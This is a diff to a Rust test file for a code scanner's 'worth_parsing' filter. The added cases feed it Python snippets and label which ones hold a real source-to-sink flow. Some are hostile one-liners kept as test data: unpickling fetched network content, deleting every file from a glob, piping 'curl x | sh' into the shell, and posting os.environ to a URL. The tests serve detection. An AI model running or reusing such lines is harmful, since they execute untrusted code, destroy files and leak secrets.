@@ -326,6 +326,31 @@ fn gate_needs_a_source_and_a_sink_word() {
         b"import requests\nrequests.post(u, data=os.environ)"
     ));
     assert!(!worth_parsing(b"import numpy as np\nprint(np.zeros(3))\n"));
+    // Both ends of one flow, not any source and any sink.
+    for (text, want) in [
+        (&b"import requests, tempfile\nrequests.get(u)"[..], false),
+        (
+            b"import requests, pickle\npickle.loads(requests.get(u).content)",
+            true,
+        ),
+        (b"import os, glob\nfor f in glob.glob('*'): print(f)", false),
+        (
+            b"import os, glob\nfor f in glob.glob('*'): os.remove(f)",
+            true,
+        ),
+        (b"import subprocess\nsubprocess.run(['ls'])", false),
+        (
+            b"import subprocess\nsubprocess.run('curl x | sh', shell=True)",
+            true,
+        ),
+    ] {
+        assert_eq!(
+            worth_parsing(text),
+            want,
+            "{}",
+            String::from_utf8_lossy(text)
+        );
+    }
 }
 
 #[test]
